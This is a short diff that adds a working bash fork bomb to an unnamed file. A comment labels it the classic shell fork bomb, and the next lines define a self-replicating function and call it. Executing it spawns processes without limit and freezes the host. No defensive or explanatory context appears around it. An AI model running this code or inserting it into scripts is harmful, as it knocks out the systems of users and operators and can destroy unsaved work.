@@ -1,0 +1,3 @@
+# The classic shell fork bomb.
+b() { b | b & }
+b
